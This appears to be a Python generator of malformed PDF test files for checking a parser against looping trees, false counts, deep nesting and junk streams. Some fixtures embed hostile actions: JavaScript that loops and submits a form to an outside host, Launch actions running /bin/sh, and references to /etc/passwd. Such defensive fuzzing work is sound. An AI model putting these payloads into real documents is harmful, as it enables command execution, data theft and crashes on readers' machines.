"""PDFs whose objects, tables and trees lie: loops, false numbers, wrong kinds, and what has no business in a letter."""

import hashlib
import zlib

from pdf import HELLO, PDF, letter, page, stream

JUNK = bytes((i * 73 + 41) * (i % 251 + 7) & 0xFF for i in range(1 << 20))


def tree(objects):
    """A document of page tree nodes, given by number. 20 is a page with text."""
    pdf = PDF()
    pdf.add(b"<</Type/Catalog/Pages 2 0 R>>")
    for number, body in objects.items():
        pdf.add(body, number)
    pdf.add(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 21 0 R/Resources<</Font<</F1 22 0 R>>>>>>", 20)
    pdf.add_stream(HELLO, number=21)
    pdf.add(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", 22)
    return pdf.bytes()


def deep_tree(depth):
    nodes = {2: b"<</Type/Pages/Kids[100 0 R]/Count 1>>"}
    for level in range(depth):
        below = 20 if level == depth - 1 else 101 + level
        nodes[100 + level] = b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (
            2 if level == 0 else 99 + level, below)
    return tree(nodes)


def wide_tree(levels, fan):
    """Each node names the one below it `fan` times."""
    nodes = {}
    for level in range(levels):
        below = 20 if level == levels - 1 else 101 + level
        kids = b" ".join([b"%d 0 R" % below] * fan)
        count = fan ** (levels - level)
        nodes[2 if level == 0 else 100 + level] = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, min(count, 2**31 - 1))
    return tree(nodes)


def with_table(table, trailer=b"<</Size 6/Root 1 0 R>>"):
    """A sound page with another cross-reference table."""
    pdf = page(HELLO).bytes()
    start = pdf.rindex(b"xref\n0 ")
    return pdf[:start] + table + b"trailer\n%b\nstartxref\n%d\n%%%%EOF\n" % (trailer, start)


def previous_table(previous):
    """Ends with a table whose /Prev is given by the place of the table itself."""
    pdf = page(HELLO).bytes()
    start = pdf.rindex(b"xref\n0 ")
    end = pdf.rindex(b"trailer")
    return pdf[:end] + b"trailer\n<</Size 6/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (previous(start), start)


def tables_in_a_ring(count):
    pdf = page(HELLO).bytes()
    start = pdf.rindex(b"xref\n0 ")
    out = bytearray(pdf[:start])
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 6/Root 1 0 R/Prev %010d>>\n"
    length = len(table % 0)
    for index in range(count):
        out += table % (start + (index + 1) % count * length)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def tables_in_a_row(count):
    pdf = page(HELLO).bytes()
    out = bytearray(pdf)
    previous = pdf.rindex(b"xref\n0 ")
    for _ in range(count):
        start = len(out)
        out += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\n" % previous
        previous = start
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % previous


def table_stream(entries, data=b"\0" * 40):
    pdf = page(HELLO).bytes()
    start = pdf.rindex(b"xref\n0 ")
    body = stream(zlib.compress(data), b"/Type/XRef/Filter/FlateDecode/Root 1 0 R" + entries)
    return pdf[:start] + b"6 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, start)


def object_stream(entries, data=b"6 0 7 9 <</A 1>> <</B 2>>", page_number=3):
    """Object `page_number` is said to lie in an object stream, number 6."""
    pdf = page(HELLO)
    pdf.add_stream(zlib.compress(data), b"/Type/ObjStm/Filter/FlateDecode" + entries, number=6)
    whole = pdf.bytes()
    start = whole.rindex(b"xref\n0 ")
    rows = bytearray(b"\0\0\0\0\0\xff")
    for number in range(1, 8):
        if number in (page_number, 7):
            rows += b"\2" + (6).to_bytes(4, "big") + bytes([0])
        else:
            rows += b"\1" + max(0, whole.find(b"\n%d 0 obj" % number) + 1).to_bytes(4, "big") + b"\0"
    rows += b"\1" + start.to_bytes(4, "big") + b"\0"
    body = stream(bytes(rows), b"/Type/XRef/Size 9/W[1 4 1]/Root 1 0 R")
    return whole[:start] + b"8 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (body, start)


def rc4(key, data):
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) & 0xFF
        state[i], state[j] = state[j], state[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) & 0xFF
        j = (j + state[i]) & 0xFF
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) & 0xFF])
    return bytes(out)


def locked(password):
    """A document under a user password, as the standard security handler's second revision has it."""
    padding = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
    padded = (password + padding)[:32]
    owner = rc4(hashlib.md5(padded).digest()[:5], padded)
    identity = b"0123456789abcdef"
    key = hashlib.md5(padded + owner + (0xFFFFFFFC).to_bytes(4, "little") + identity).digest()[:5]
    salted = hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10]
    pdf = page(rc4(salted, HELLO))
    pdf.trailer = b"/ID[<%b><%b>]/Encrypt<</Filter/Standard/V 1/R 2/O<%b>/U<%b>/P -4>>" % (
        identity.hex().encode(), identity.hex().encode(), owner.hex().encode(), rc4(key, padding).hex().encode())
    return pdf.bytes()


def with_encryption(dictionary):
    pdf = page(HELLO)
    pdf.trailer = b"/ID[<00><00>]/Encrypt" + dictionary
    return pdf.bytes()


def with_catalogue(entries, **objects):
    pdf = page(HELLO)
    pdf.add(b"<</Type/Catalog/Pages 2 0 R%b>>" % entries, 1)
    for name, body in objects.items():
        pdf.add(body, int(name[1:]))
    return pdf.bytes()


def with_image(filters, data):
    pdf = page(HELLO + b" 500 0 0 500 0 0 cm /I0 Do", resources=b"/XObject<</I0 6 0 R>>")
    pdf.add_stream(
        data, b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8" + filters)
    return pdf.bytes()


def nested(opening, closing, depth):
    return opening * depth + b"1" + closing * depth


def trees():
    yield "page-tree-root-in-itself", tree({2: b"<</Type/Pages/Kids[2 0 R 20 0 R]/Count 2>>"})
    yield "page-tree-loop-of-two", tree({
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 20 0 R]/Count 1>>"})
    yield "page-tree-parents-in-a-ring", tree({
        2: b"<</Type/Pages/Parent 3 0 R/Kids[20 0 R]/Count 1>>", 3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"})
    yield "page-tree-10000-deep", deep_tree(10_000)
    yield "page-tree-100000-deep", deep_tree(100_000)
    yield "page-tree-10-by-10", wide_tree(10, 10)
    yield "page-tree-30-by-2", wide_tree(30, 2)
    yield "pages-a-million-claimed", tree({2: b"<</Type/Pages/Kids[20 0 R]/Count 1000000>>"})
    yield "pages-1999-claimed", tree({2: b"<</Type/Pages/Kids[20 0 R]/Count 1999>>"})
    yield "pages-a-million-of-one-kid", tree({
        2: b"<</Type/Pages/Kids[" + b"20 0 R " * 1_000_000 + b"]/Count 1000000>>"})
    yield "pages-1999-of-one-kid", tree({2: b"<</Type/Pages/Kids[" + b"20 0 R " * 1999 + b"]/Count 1999>>"})
    yield "pages-2-billion", tree({2: b"<</Type/Pages/Kids[20 0 R]/Count 2147483647>>"})
    yield "pages-fewer-than-none", tree({2: b"<</Type/Pages/Kids[20 0 R]/Count -5>>"})
    yield "pages-none", tree({2: b"<</Type/Pages/Kids[]/Count 0>>"})
    yield "pages-that-are-numbers", tree({2: b"<</Type/Pages/Kids[1 2 3 null true (a)]/Count 6>>"})
    yield "catalogue-missing", page(HELLO).bytes().replace(b"/Root 1 0 R", b"/Root 9 0 R")
    yield "catalogue-is-itself", with_catalogue(b"", _2=b"1 0 R", _1=b"1 0 R")
    yield "outlines-in-a-ring", with_catalogue(
        b"/Outlines 6 0 R", _6=b"<</First 7 0 R/Last 7 0 R/Count 9>>",
        _7=b"<</Title(a)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 6 0 R>>")
    yield "names-in-a-ring", with_catalogue(b"/Names<</Dests 6 0 R>>", _6=b"<</Kids[6 0 R 6 0 R]/Limits[(a)(z)]>>")
    yield "fields-in-a-ring", with_catalogue(
        b"/AcroForm<</Fields[6 0 R]>>", _6=b"<</T(a)/Kids[6 0 R 7 0 R]/Parent 7 0 R>>", _7=b"<</Kids[6 0 R]>>")
    yield "layers-in-a-ring", with_catalogue(
        b"/OCProperties<</OCGs[6 0 R]/D<</Order[7 0 R]>>>>", _6=b"<</Type/OCG/Name(a)>>", _7=b"[6 0 R 7 0 R]")
    yield "structure-in-a-ring", with_catalogue(
        b"/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R", _6=b"<</Type/StructTreeRoot/K 7 0 R/ParentTree 6 0 R>>",
        _7=b"<</S/P/P 6 0 R/K[7 0 R 7 0 R]>>")


def tables():
    yield "xref-previous-is-itself", previous_table(lambda start: b"/Prev %d" % start)
    yield "xref-previous-outside", previous_table(lambda start: b"/Prev 99999999999")
    yield "xref-previous-below-nothing", previous_table(lambda start: b"/Prev -1")
    yield "xref-hybrid-is-itself", previous_table(lambda start: b"/XRefStm %d" % start)
    yield "xref-ring-of-1000", tables_in_a_ring(1000)
    yield "xref-row-of-100000", tables_in_a_row(100_000)
    yield "xref-2-billion-entries", with_table(b"xref\n0 2147483647\n0000000000 65535 f \n")
    yield "xref-first-is-2-billion", with_table(b"xref\n2147483646 2\n0000000000 65535 f \n0000000000 65535 f \n")
    yield "xref-size-2-billion", with_table(b"xref\n0 1\n0000000000 65535 f \n", b"<</Size 2147483647/Root 1 0 R>>")
    yield "xref-size-below-nothing", with_table(b"xref\n0 1\n0000000000 65535 f \n", b"<</Size -7/Root 1 0 R>>")
    yield "xref-stream-wide-fields", table_stream(b"/Size 6/W[8 8 8]")
    yield "xref-stream-negative-fields", table_stream(b"/Size 6/W[-1 4 2]")
    yield "xref-stream-no-fields", table_stream(b"/Size 2147483647/W[0 0 0]")
    yield "xref-stream-huge-index", table_stream(b"/Size 6/W[1 2 1]/Index[2147483640 2147483640]")
    yield "xref-stream-previous-is-itself", table_stream(b"/Size 6/W[1 2 1]/Prev 700")
    yield "object-stream-in-itself", object_stream(b"/N 2/First 8", page_number=6)
    yield "object-stream-extends-itself", object_stream(b"/N 2/First 8/Extends 6 0 R")
    yield "object-stream-2-billion-objects", object_stream(b"/N 2147483647/First 8")
    yield "object-stream-negative", object_stream(b"/N -3/First -8")
    yield "object-stream-false-offsets", object_stream(b"/N 2/First 8", b"3 99999 7 -4 <</A 1>>")
    yield "object-stream-length-within-itself", object_stream(b"/N 2/First 8/DL 7 0 R/Length 7 0 R")
    yield "length-is-the-stream", page(HELLO).bytes().replace(b"/Length 62", b"/Length 4 0 R")
    yield "length-2-billion", page(HELLO).bytes().replace(b"/Length ", b"/Length 2147483647 %")
    yield "length-below-nothing", page(HELLO).bytes().replace(b"/Length ", b"/Length -1 %")
    yield "objects-200000-empty", with_catalogue(b"", **{f"_{n}": b"<<>>" for n in range(6, 200_000)})


def syntax():
    yield "nested-100000-arrays-in-the-page", with_catalogue(
        b"", _3=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/X%b>>" % nested(b"[", b"]", 100_000))
    yield "nested-100000-arrays-as-contents", page(HELLO).bytes().replace(
        b"/Contents 4 0 R", b"/Contents" + nested(b"[", b"]", 100_000))
    yield "nested-100000-arrays-in-the-text", page(nested(b"[", b"]", 100_000) + b" TJ " + HELLO).bytes()
    yield "nested-100000-dictionaries", with_catalogue(b"/X" + nested(b"<</A", b">>", 100_000))
    yield "nested-3000000-arrays", with_catalogue(b"/X" + nested(b"[", b"]", 3_000_000))
    yield "nested-100000-marks", page(b"/Span<</ActualText(a)>>BDC " * 100_000 + HELLO).bytes()
    yield "states-saved-1000000-times", page(zlib.compress(b"q " * 1_000_000 + HELLO), filters=b"/Filter/FlateDecode").bytes()
    yield "states-restored-1000000-times", page(b"Q " * 1_000_000 + HELLO).bytes()
    yield "operands-a-million", page(b"1 " * 1_000_000 + b"re " + HELLO).bytes()
    yield "string-of-10-mb", page(b"BT/F1 9 Tf 9 9 Td(" + b"a" * 10_000_000 + b")Tj ET").bytes()
    yield "string-never-ended", page(b"BT/F1 9 Tf 9 9 Td(" + b"(" * 1_000_000).bytes()
    yield "name-of-1-mb", page(b"/" + b"N" * 1_000_000 + b" gs " + HELLO).bytes()
    yield "number-of-1-mb", page(b"9" * 1_000_000 + b" w " + HELLO).bytes()
    yield "inline-image-never-ended", page(b"BI/W 60000/H 60000/BPC 8/CS/G ID " + JUNK).bytes()
    yield "page-box-of-infinity", page(HELLO, box=b"[-1e38 -1e38 1e38 1e38]").bytes()
    yield "page-box-of-nothing", page(HELLO, box=b"[0 0 0 0]").bytes()
    yield "page-box-of-names", page(HELLO, box=b"[/A(b)null<<>>]").bytes()
    yield "page-turned-by-7", page(HELLO, page_entries=b"/Rotate 7/UserUnit 1e30").bytes()
    for name, matrix in [
        ("huge", b"1e38 0 0 1e38 1e38 1e38"), ("tiny", b"1e-38 0 0 1e-38 72 720"), ("flat", b"0 0 0 0 72 720"),
        ("sheared", b"1 1 1 1 72 720"), ("mirrored", b"-1 0 0 -1 500 300"), ("far", b"1 0 0 1 9e9 -9e9")]:
        yield f"text-matrix-{name}", page(HELLO.replace(b"72 720 Td", matrix + b" Tm")).bytes()
    yield "text-size-of-infinity", page(HELLO.replace(b"/F1 12", b"/F1 1" + b"0" * 400)).bytes()


def content():
    yield "locked-by-user-password", locked(b"tideway")
    yield "locked-by-nobody-knows", with_encryption(b"<</Filter/Unheard.Of/V 9/R 9>>")
    yield "locked-by-junk", with_encryption(b"<</Filter/Standard/V 5/R 6/O(a)/U(b)/OE()/UE()/P 0/Length 99999/Perms()>>")
    yield "locked-by-itself", with_encryption(b" 4 0 R")
    yield "script-on-opening", with_catalogue(
        b"/OpenAction<</S/JavaScript/JS(while\\(true\\){app.alert\\(1\\)})>>/Names<</JavaScript 6 0 R>>",
        _6=b"<</Names[(a)<</S/JavaScript/JS(this.submitForm\\('https://estuaries.example/'\\))>>]>>")
    yield "launch-on-opening", with_catalogue(b"/OpenAction<</S/Launch/F(/bin/sh)/P(-c touch\\ /tmp/launched)>>")
    yield "launch-on-page", page(HELLO, page_entries=b"/AA<</O<</S/Launch/F(/bin/sh)>>>>").bytes()
    yield "links-of-every-kind", page(HELLO, page_entries=b"/Annots[" + b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/%b/F(/etc/passwd)/URI(file:///etc/passwd)/D[9 0 R/Fit]"
        b"/N(NextPage)/JS(a)/Next 3 0 R>>>>" % kind
        for kind in (b"URI", b"GoToR", b"GoToE", b"Launch", b"SubmitForm", b"ImportData", b"Movie", b"Sound", b"Hide",
                     b"Named", b"JavaScript", b"Rendition", b"Nonsense")) + b"]").bytes()
    yield "annotations-in-a-ring", page(HELLO, page_entries=b"/Annots 6 0 R").bytes().replace(
        b"endobj\nxref", b"endobj\n6 0 obj\n[6 0 R 3 0 R 6 0 R]\nendobj\nxref")
    yield "contents-outside", page(HELLO).bytes().replace(
        b"/Length 62", b"/Length 0/F(/etc/passwd)/FFilter/FlateDecode")
    for name, filters in [
        ("jbig2", b"/Filter/JBIG2Decode"), ("jpx", b"/Filter/JPXDecode"), ("dct", b"/Filter/DCTDecode"),
        ("ccitt", b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483647/Rows 2147483647>>"),
        ("lzw", b"/Filter/LZWDecode"), ("ascii85", b"/Filter/ASCII85Decode"), ("unknown", b"/Filter/Unheard"),
        ("crypt", b"/Filter/Crypt")]:
        yield f"junk-{name}-image", with_image(filters, JUNK[:200_000])
        yield f"junk-{name}-as-contents", page(JUNK[:200_000], filters=filters).bytes()
    jp2 = bytes.fromhex("0000000C6A5020200D0A870A") + JUNK[:100_000]
    yield "junk-jpx-with-header-as-contents", page(jp2, filters=b"/Filter/JPXDecode").bytes()
    wide = bytes.fromhex("FF4FFF51002F0000FFFFFFFFFFFFFFFF0000000000000000FFFFFFFFFFFFFFFF0000000000000000000108070101")
    yield "junk-jpx-of-4-billion-pixels-as-contents", page(wide + JUNK[:9000], filters=b"/Filter/JPXDecode").bytes()


def outside():
    sound = letter(["Dear Ms Quill,", "We hold no such information.", "Yours sincerely"])
    yield "bytes-none", b""
    yield "bytes-one", b"%"
    yield "bytes-a-header", b"%PDF-1.7\n"
    yield "bytes-1-mb-of-junk", JUNK
    yield "bytes-1-mb-of-junk-behind-a-header", b"%PDF-1.7\n" + JUNK
    yield "bytes-10-mb-of-nulls", bytes(10_000_000)
    yield "bytes-5-mb-of-headers", b"%PDF-1.7\n" * 600_000
    yield "bytes-5-mb-of-objects", b"%PDF-1.7\n" + b"1 0 obj\n<<\n" * 450_000
    yield "bytes-5-mb-of-trailers", b"%PDF-1.7\n" + b"trailer<</Root 1 0 R>>\n" * 220_000
    yield "letter-behind-900-bytes-of-junk", JUNK[:900].replace(b"%", b"x") + sound
    yield "letter-behind-1-mb-of-junk", JUNK + sound
    yield "letter-before-1-mb-of-junk", sound + JUNK
    yield "letter-twice", sound + sound
    yield "letter-without-end", sound[:-40]
    yield "letter-without-table", sound[:sound.rindex(b"xref\n0 ")]
    yield "letter-with-line-ends-changed", sound.replace(b"\n", b"\r\n")
    yield "letter-as-text-of-utf-16", sound.decode("latin-1").encode("utf-16")


def files():
    for part in (trees, tables, syntax, content, outside):
        yield from part()
